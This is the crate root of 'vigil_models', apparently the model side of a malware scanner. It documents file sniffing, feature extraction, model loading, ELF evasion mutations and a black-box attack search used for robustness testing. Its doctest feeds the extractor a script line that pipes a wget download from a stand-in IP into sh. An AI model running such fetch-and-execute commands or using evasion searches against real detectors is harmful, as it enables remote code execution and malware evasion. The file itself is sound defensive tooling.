//! vigil's file understanding: what kind of file a byte prefix is, the static
//! features of a whole file for the malware model, and reading the training corpus
//! straight from its archive.
//!
//! This crate is pure: no I/O beyond what a caller hands it (the exceptions,
//! [`tarsource`] and [`bundle::Bundle::load_dir`], read what they are given), no
//! threads, no `unsafe`.
//!
//! - [`sniff`]: content sniffing that decides whether an open is worth scanning
//!   under `watch.scan_on_open = "executable"`.
//! - [`features`]: the feature extractor shared by training and the daemon —
//!   [`features::extract`] turns bytes into a row of [`features::FEATURE_COUNT`]
//!   finite values named by [`features::names`], versioned by
//!   [`features::SCHEMA_VERSION`]. It never panics, whatever the input.
//! - [`tarsource`]: archive members into memory, one at a time, never onto disk.
//! - [`bundle`]: the model bundle (ONNX + manifest), checked on load and run with
//!   tract; the trained bundle is compiled in.
//! - [`mutate`]: evasion-style ELF mutations for robustness reports and training
//!   augmentation.
//! - [`attack`]: a query-limited black-box search over sequences of those
//!   mutations, the model's score its only feedback.
//!
//! ```
//! use vigil_models::sniff::{sniff, FileKind};
//! assert_eq!(sniff(b"\x7fELF\x02\x01\x01"), FileKind::Elf);
//! assert_eq!(sniff(b"#!/bin/sh\necho hi\n"), FileKind::Script);
//! assert_eq!(sniff(b"plain text"), FileKind::Other);
//!
//! use vigil_models::features::{extract, names, FEATURE_COUNT};
//! let row = extract(b"#!/bin/sh\nwget http://203.0.113.7/x -O- | sh\n");
//! assert_eq!(row.values.len(), FEATURE_COUNT);
//! assert_eq!(names().len(), FEATURE_COUNT);
//! assert!(!row.parsed); // not ELF
//! assert!(row.values.iter().all(|v| v.is_finite()));
//! ```
#![forbid(unsafe_code)]
#![deny(missing_docs)]

pub mod attack;
pub mod bundle;
pub mod error;
pub mod features;
pub mod mutate;
pub mod sniff;
pub mod tarsource;

pub use error::Error;
